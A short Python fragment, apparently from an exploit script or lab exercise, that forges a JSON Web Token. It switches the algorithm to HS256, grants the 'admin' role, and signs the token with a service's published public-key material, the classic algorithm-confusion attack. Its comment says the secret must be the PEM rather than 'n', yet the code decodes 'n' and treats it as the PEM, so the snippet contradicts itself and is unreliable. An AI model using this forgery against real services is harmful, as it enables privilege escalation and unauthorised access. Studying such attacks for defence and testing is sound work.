# requirement: the secret is the PEM, not n
new_header = {"alg": "HS256", "typ": "at+jwt", "kid": header["kid"]}
new_claims = json.loads(claims)
new_claims["roles"] = ["admin"]
pem = mine.base64url_decode(mine.find_key(published, header["kid"])["n"])
forged = mine.sign_hs256(new_header, new_claims, pem)
